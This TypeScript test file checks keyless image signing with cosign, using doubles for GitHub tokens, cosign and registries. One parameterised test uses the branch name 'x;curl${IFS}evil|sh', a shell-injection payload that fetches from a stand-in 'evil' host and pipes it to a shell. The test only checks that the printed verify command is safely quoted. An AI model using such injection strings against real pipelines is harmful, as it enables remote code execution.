// Keyless signing, with doubles for GitHub's token service and for cosign: requests, order, arguments.
import { createHash } from 'node:crypto';
import { describe, expect, it } from '@jest/globals';
import type { Command, Finished } from '../../src/commands/command.ts';
import type { SignatureForm } from '../../src/commands/cosign.ts';
import { Failure } from '../../src/errors/failure.ts';
import { type Manifest, mediaTypes } from '../../src/oci/image-index.ts';
import { parseRepository } from '../../src/oci/reference.ts';
import type { Plan } from '../../src/plan/plan.ts';
import type { SignOptions } from '../../src/plan/stage-options.ts';
import type { Ports, Registry } from '../../src/ports/ports.ts';
import { checkSources, readySigner, type Signer, sign, whyUnsigned } from '../../src/sign/sign.ts';
import { anIndex, memoryRegistry } from '../support/memory-registry.ts';
import { aPlan } from '../support/plan.ts';
import { silentPorts } from '../support/ports.ts';
import { verifiedAs } from '../support/verified.ts';
import { bundling } from './bundling.ts';

const token = (claims: object): string => `h.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.s`;
const workflow = 'acme/ci/.github/workflows/publish.yml@refs/tags/v1';
const claims = { iss: 'https://token.actions.githubusercontent.com', job_workflow_ref: workflow };
const keyless: SignOptions = { kind: 'keyless', format: 'auto' };
const plan = aPlan({ sign: keyless });
const who = { identity: `https://github.com/${workflow}`, issuer: claims.iss };
const signerOf = (...forms: readonly SignatureForm[]): Signer => ({
  ...{ program: 'cosign', key: undefined, major: 3, hasBundles: true, forms },
  ...{ who, shown: who, verifyEnv: {} },
});
const signer = signerOf('legacy', 'bundle');
const index = anIndex({});
const bundle = 'application/vnd.dev.sigstore.bundle.v0.3+json';
const repository = { name: 'a.test/app', registry: 'a.test', path: 'app' };
const reference = `a.test/app@${index.digest}`;

function world(given: string | undefined, exitCodes: Readonly<Record<string, number>> = {}) {
  const ran: Command[] = [];
  // Its API lists a bundle for everything that was signed.
  const registry: Registry = {
    ...memoryRegistry(),
    referrers: async () =>
      ran.some(({ args }) => args[0] === 'sign') ? [{ digest: index.digest, artifactType: bundle }] : [],
  };
  const ports = silentPorts({
    registry,
    github: { get: async () => undefined, identity: async () => given },
    exec: {
      run: async (command) => {
        ran.push(command);
        const exitCode = exitCodes[command.args[0] ?? ''] ?? 0;
        return { exitCode, stdout: '{"gitVersion":"v3.1.3"}', stderr: 'cosign says why' };
      },
    },
  });
  return { ran, ports };
}

/** A world whose cosign leaves bundles in its registries. */
function several() {
  const { ran, ports } = world(token(claims));
  const { registry, exec } = bundling();
  const run = async (command: Command) => {
    await exec.run(command);
    return ports.exec.run(command);
  };
  return { ran, ports: { ...ports, registry, exec: { run } } };
}

/** The same, with the most runs of a program at a time. */
function counting({ ports }: { ports: Ports }) {
  let [running, most] = [0, 0];
  const exec: Ports['exec'] = {
    run: async (command) => {
      running += 1;
      most = Math.max(most, running);
      // All that starts without waiting for another one starts before this is over.
      await new Promise((resolve) => setTimeout(resolve, 20));
      running -= 1;
      return ports.exec.run(command);
    },
  };
  return { ports: { ...ports, exec }, most: () => most };
}

const codesOf = async (work: Promise<unknown>): Promise<readonly string[]> =>
  work.then(
    () => [],
    (error: unknown) => (error instanceof Failure ? error.problems.map(({ code }) => code) : ['a bug']),
  );

describe('keyless signing', () => {
  it('passes the token to cosign by the environment, and verifies the name of the signing workflow', async () => {
    const { ran, ports } = world(token(claims));
    const signer = await readySigner(plan, ports);
    const verified = [await verifiedAs(index, [repository])];
    await sign(plan, verified, signer, ports);
    const by = [
      ...['--certificate-identity', `https://github.com/${workflow}`],
      ...['--certificate-oidc-issuer', 'https://token.actions.githubusercontent.com'],
    ];
    expect(ran.every(({ args }) => !args.join(' ').includes(token(claims)))).toBe(true);
    expect(ran.map(({ args, env }) => ({ args, env }))).toEqual([
      { args: ['version', '--json'], env: undefined },
      {
        args: ['sign', '--yes', '--use-signing-config=false', '--new-bundle-format=false', reference],
        env: { SIGSTORE_ID_TOKEN: token(claims) },
      },
      { args: ['sign', '--yes', reference], env: { SIGSTORE_ID_TOKEN: token(claims) } },
      { args: ['verify', ...by, '--new-bundle-format=false', reference], env: {} },
      { args: ['verify', ...by, reference], env: {} },
    ]);
  });

  it.each(['main', 'feat(x)', 'x;curl${IFS}evil|sh'])(
    'shows a command to verify that a shell reads as it is on the branch %s',
    async (branch) => {
      const ref = `acme/ci/.github/workflows/publish.yml@refs/heads/${branch}`;
      const { ports } = world(token({ ...claims, job_workflow_ref: ref }));
      const signer = await readySigner(plan, ports);
      const [signature] = await sign(plan, [await verifiedAs(index, [repository])], signer, ports);
      const identity = `https://github.com/${ref}`;
      const quoted = branch === 'main' ? identity : `'${identity}'`;
      expect(signature?.command).toBe(
        `cosign verify --certificate-identity ${quoted} --certificate-oidc-issuer ${claims.iss} ${reference}`,
      );
    },
  );

  describe('in several repositories', () => {
    const repositories = ['a', 'b', 'a', 'a', 'b', 'a'].map((registry, number) => {
      const path = `app-${number}`;
      return { name: `${registry}.test/${path}`, registry: `${registry}.test`, path };
    });
    const at = (registry: string) =>
      repositories.filter((each) => each.registry === registry).map(({ name }) => `${name}@${index.digest}`);
    const order = signerOf('bundle');

    it.each(['legacy', 'bundle'] as const)('starts cosign once for each registry to verify %s', async (form) => {
      const { ran, ports } = several();
      await sign(plan, [await verifiedAs(index, repositories)], signerOf(form), ports);
      const references = (verb: string) =>
        ran.filter(({ args }) => args[0] === verb).map(({ args }) => args.filter((word) => word.includes('@sha256:')));
      const both = [at('a.test'), at('b.test')];
      // A bundle names no repository.
      const signed = form === 'legacy' ? both : [at('a.test').slice(0, 1)];
      expect([references('sign'), references('verify')]).toEqual([signed, both]);
    });

    it('signs at most four images in one run of cosign', async () => {
      const { ran, ports } = several();
      const many = [0, 1, 2, 3, 4].map((number) => parseRepository(`a.test/many-${number}`));
      await sign(plan, [await verifiedAs(index, many)], signerOf('legacy'), ports);
      const references = many.map(({ name }) => `${name}@${index.digest}`);
      const signed = ran.filter(({ args }) => args[0] === 'sign').map(({ args }) => args.slice(4));
      expect(signed).toEqual([references.slice(0, 3), references.slice(3)]);
    });

    it('signs what two images share once', async () => {
      const { ran, ports } = several();
      const same = await verifiedAs(index, [repository]);
      await sign(plan, [same, same], signerOf('legacy'), ports);
      expect(ran.filter(({ args }) => args[0] === 'sign').map(({ args }) => args.slice(4))).toEqual([[reference]]);
    });

    const keyed: Signer = { ...signer, key: 'env://KEY' };

    it.each([
      ['all forms and registries at once with a key', keyed, 4],
      ['one after the other without a key, because runs of cosign share the trust root', signer, 1],
    ])('signs %s', async (_, given, expected) => {
      const { ports, most } = counting(several());
      await sign(plan, [await verifiedAs(index, repositories)], given, ports);
      expect(most()).toBe(expected);
    });

    it.each([
      ['side by side with a key', keyed, 4],
      ['one after the other without a key', signer, 1],
    ])('looks for signatures of existing images %s', async (_, given, expected) => {
      const { ports, most } = counting(several());
      await whyUnsigned(plan, [await verifiedAs(index, repositories)], given, ports);
      expect(most()).toBe(expected);
    });

    it.each<[string, NonNullable<Plan['sourceSigner']>, number]>([
      ['side by side with a key', { key: 'cosign.pub' }, 2],
      ['one after the other without a key', who, 1],
    ])('verifies sources %s', async (_, sourceSigner, expected) => {
      const { ports, most } = counting(several());
      const origins = repositories.slice(0, 2).map((each) => ({
        ...{ reference: each.name, repository: each, digest: index.digest, revision: '1', omitted: [] },
      }));
      const images = origins.flatMap((origin) => plan.images.map((image) => ({ ...image, origin })));
      await checkSources({ ...plan, images, sourceSigner }, ports).catch(() => undefined);
      expect(most()).toBe(expected);
    });

    it('reports every registry in which cosign cannot sign, each once', async () => {
      const { ports } = world(token(claims), { sign: 1 });
      const more = [4, 5, 6, 7, 8].map((number) => parseRepository(`a.test/more-${number}`));
      const verified = [await verifiedAs(index, [...repositories, ...more])];
      expect(await codesOf(sign(plan, verified, keyed, ports))).toEqual(['SIGN_FAILED', 'SIGN_FAILED']);
    });

    it('names the image whose signature does not verify', async () => {
      const { ports } = several();
      const [, unsigned = ''] = at('a.test');
      const exec: Ports['exec'] = {
        run: async (command) => {
          const finished = await ports.exec.run(command);
          const isRejected = command.args[0] === 'verify' && command.args.includes(unsigned);
          return isRejected ? { ...finished, exitCode: 1 } : finished;
        },
      };
      const work = sign(plan, [await verifiedAs(index, repositories)], order, { ...ports, exec });
      await expect(work).rejects.toMatchObject({
        problems: [{ code: 'SIGNATURE_NOT_VERIFIED', fact: expect.stringContaining(unsigned) }],
      });
    });

    const ends = (ended: Partial<Finished>) => {
      const { ports } = several();
      const run = async (command: Command): Promise<Finished> => {
        const finished = await ports.exec.run(command);
        return command.args[0] === 'verify' ? { ...finished, ...ended } : finished;
      };
      return { ...ports, exec: { run } };
    };

    it.each<[string, Partial<Finished>, string, string]>([
      ['rejects', { exitCode: 1 }, 'does not verify', 'unsigned'],
      [
        'does not answer about',
        { exitCode: undefined, stoppedBy: 'timeout' },
        'is unknown: cosign timed out',
        'signature-unknown',
      ],
    ])('says of a signature that cosign %s no more than is known', async (_, ended, words, code) => {
      const images = [await verifiedAs(index, [repository])];
      await expect(sign(plan, images, order, ends(ended))).rejects.toMatchObject({
        problems: [
          { code: 'SIGNATURE_NOT_VERIFIED', fact: expect.stringContaining(`The signature of ${reference} ${words}. `) },
        ],
      });
      expect(await whyUnsigned(plan, images, order, ends(ended))).toMatchObject({ code });
    });
  });

  it.each([
    ['no token', undefined],
    ['a token that says nothing of a workflow', token({ iss: 'https://issuer.test' })],
    ['an invalid token', 'nonsense'],
  ])('ends before the build with %s', async (_, given) => {
    expect(await codesOf(readySigner(plan, world(given).ports))).toEqual(['SIGN_IDENTITY_MISSING']);
  });

  it.each([
    ['a build that hands over a part', aPlan({ sign: keyless, run: { stage: 'build' } })],
    ['a run that pushes nothing', aPlan({ sign: keyless, push: { enabled: false, reason: '', isDeliberate: true } })],
    ['a step that is not asked to', aPlan()],
  ])('is nothing to %s', async (_, other) => {
    const { ran, ports } = world(undefined);
    expect(await readySigner(other, ports)).toBeUndefined();
    expect(ran).toEqual([]);
  });

  it.each([
    ['sign', 'SIGN_FAILED'],
    ['verify', 'SIGNATURE_NOT_VERIFIED'],
  ])('ends where cosign %s fails', async (verb, code) => {
    const { ports } = world(token(claims), { [verb]: 1 });
    const verified = [await verifiedAs(index, [repository])];
    expect(await codesOf(sign(plan, verified, signerOf('bundle'), ports))).toEqual([code]);
  });
});

describe('an image that has attestations by the same signer', () => {
  const attestation = { digest: `sha256:${'a'.repeat(64)}`, artifactType: bundle } as const;
  const signature = { digest: `sha256:${'b'.repeat(64)}`, artifactType: bundle } as const;
  const printed = (...types: readonly string[]) => JSON.stringify(types.map((type) => ({ critical: { type } })));
  const provenance = 'https://slsa.dev/provenance/v1';
  const signed = 'https://sigstore.dev/cosign/sign/v1';

  /** Signs an image. The registry lists the new bundle after some reads; cosign prints this line. */
  async function signWith(line: string, readsAfter: number) {
    const { ran, ports } = world(token(claims));
    let reads = 0;
    const lagging: Registry = {
      ...memoryRegistry(),
      referrers: async () => {
        if (ran.every(({ args }) => args[0] !== 'sign')) return [attestation];
        reads += 1;
        return reads > readsAfter ? [attestation, signature] : [attestation];
      },
    };
    const seen: number[] = [];
    const exec: Ports['exec'] = {
      run: async (command) => {
        const finished = await ports.exec.run(command);
        if (command.args[0] !== 'verify') return finished;
        seen.push(reads);
        return { ...finished, stdout: `\n${line}\n` };
      },
    };
    const work = sign(plan, [await verifiedAs(index, [repository])], signerOf('bundle'), {
      ...{ ...ports, registry: lagging, exec },
    });
    const problems = await work.then(
      () => [],
      (error: unknown) => (error instanceof Failure ? error.problems : []),
    );
    return { codes: problems.map(({ code }) => code), fact: problems[0]?.fact ?? '', reads: seen[0] };
  }

  it('is verified after the registry lists the new bundle, although it listed others before', async () => {
    expect(await signWith(printed(provenance, signed), 4)).toEqual({ codes: [], fact: '', reads: 5 });
  });

  it('fails if no new bundle appears', async () => {
    const { codes, fact } = await signWith(printed(provenance), 1000);
    expect(codes).toEqual(['SIGNATURE_NOT_VERIFIED']);
    expect(fact).toContain('is not listed by the referrers API');
  });

  it.each([
    ['of which cosign verified no signature fails', printed(provenance), ['SIGNATURE_NOT_VERIFIED']],
    ['whose types cosign does not print, because it cannot read one of them, passes', printed('', ''), []],
  ])('%s', async (_, line, codes) => {
    expect((await signWith(line, 0)).codes).toEqual(codes);
  });

  it('is named if cosign verified only attestations of it, beside an image with a signature', async () => {
    const world = bundling();
    const names = ['a.test/app', 'a.test/other'].map(parseRepository);
    const exec: Ports['exec'] = {
      run: async (command) => {
        const finished = await world.exec.run(command);
        const line = (word: string) =>
          `\n${word.startsWith('a.test/other@') ? printed(provenance) : printed(signed)}\n`;
        const stdout = command.args.filter((word) => word.includes('@sha256:')).map(line);
        return command.args[0] === 'verify' ? { ...finished, stdout: stdout.join('') } : finished;
      },
    };
    const ports = silentPorts({ registry: world.registry, exec });
    const keyed: Signer = { ...signerOf('bundle'), key: 'k8s://acme/release' };
    await expect(sign(plan, [await verifiedAs(index, names)], keyed, ports)).rejects.toMatchObject({
      problems: [
        {
          code: 'SIGNATURE_NOT_VERIFIED',
          fact: expect.stringContaining(`cosign verified only attestations of a.test/other@${index.digest}`),
        },
      ],
    });
  });
});

describe('a bundle', () => {
  const tag = `sha256-${index.digest.slice('sha256:'.length)}`;
  const made = manifestOf({
    mediaType: mediaTypes.manifest,
    artifactType: bundle,
    config: { mediaType: 'application/vnd.oci.empty.v1+json' },
    annotations: { 'dev.sigstore.bundle.content': 'dsse-envelope' },
  });
  const entry = { mediaType: mediaTypes.manifest, digest: made.digest, size: made.bytes.length };
  const wrong = { ...entry, artifactType: 'application/vnd.oci.empty.v1+json' };
  const right = { ...entry, artifactType: bundle, annotations: { 'dev.sigstore.bundle.content': 'dsse-envelope' } };

  /** Signs in a registry without the referrers API, whose tag has these entries. */
  async function signedWith(entries: readonly object[]) {
    const plain = memoryRegistry();
    const { ports } = world(token(claims));
    await plain.putManifest(repository, made.digest, made);
    const exec: Ports['exec'] = {
      run: async (command) => {
        if (command.args[0] === 'sign') plain.seed(repository, tag, listOf(entries));
        return ports.exec.run(command);
      },
    };
    const verified = [await verifiedAs(index, [repository])];
    const codes = await codesOf(sign(plan, verified, signerOf('bundle'), { ...ports, exec, registry: plain }));
    const list = await plain.manifest(repository, tag);
    return { codes, puts: plain.puts, entries: JSON.parse(new TextDecoder().decode(list?.bytes)).manifests };
  }

  it('gets its own type in the list of a registry without the referrers API', async () => {
    const other = { ...entry, digest: `sha256:${'a'.repeat(64)}`, artifactType: 'application/x' };
    expect(await signedWith([other, wrong])).toEqual({
      codes: [],
      puts: [`${repository.name}:${tag}`],
      entries: [other, right],
    });
  });

  it('that has its own type is left alone', async () => {
    expect(await signedWith([right])).toEqual({ codes: [], puts: [], entries: [right] });
  });

  it('that no list has is not verified', async () => {
    expect((await signedWith([])).codes).toEqual(['SIGNATURE_NOT_VERIFIED']);
  });

  it('that the referrers API does not list is not verified', async () => {
    const { ports } = world(token(claims));
    const empty: Registry = {
      ...memoryRegistry(),
      referrers: async () => [{ digest: index.digest, artifactType: wrong.artifactType }],
    };
    const verified = [await verifiedAs(index, [repository])];
    const work = sign(plan, verified, signerOf('bundle'), { ...ports, registry: empty });
    expect(await codesOf(work)).toEqual(['SIGNATURE_NOT_VERIFIED']);
  });
});

function manifestOf(json: object): Manifest {
  const bytes = new TextEncoder().encode(JSON.stringify(json));
  return {
    mediaType: mediaTypes.manifest,
    digest: `sha256:${createHash('sha256').update(bytes).digest('hex')}`,
    bytes,
  };
}

function listOf(entries: readonly object[]): Manifest {
  const whole = entries.map((each) => ({ mediaType: mediaTypes.manifest, digest: index.digest, size: 1, ...each }));
  return {
    ...manifestOf({ schemaVersion: 2, mediaType: mediaTypes.index, manifests: whole }),
    mediaType: mediaTypes.index,
  };
}
